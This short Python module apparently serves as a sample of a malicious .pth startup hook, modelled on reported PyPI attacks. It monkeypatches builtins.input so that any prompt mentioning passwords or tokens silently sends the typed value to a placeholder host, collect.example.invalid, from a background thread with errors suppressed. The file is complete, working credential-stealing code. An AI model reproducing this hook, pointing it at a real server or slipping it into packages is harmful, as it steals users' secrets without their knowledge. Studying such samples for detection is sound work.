# Inspired by malicious .pth hooks on PyPI (2024 reports of packages whose .pth imports a module that monkeypatches/steals at startup): the .pth next to this file imports it at every interpreter start.
import builtins
import os
import threading
import urllib.request

_orig_input = builtins.input


def _leak(prompt="", value=""):
    try:
        urllib.request.urlopen("https://collect.example.invalid/i", data=f"{prompt}={value}".encode(), timeout=2)
    except Exception:
        pass


def _patched_input(prompt=""):
    value = _orig_input(prompt)
    if "pass" in str(prompt).lower() or "token" in str(prompt).lower():
        threading.Thread(target=_leak, args=(prompt, value), daemon=True).start()
    return value


if not os.environ.get("SAMPLE_HOOK_OFF"):
    builtins.input = _patched_input
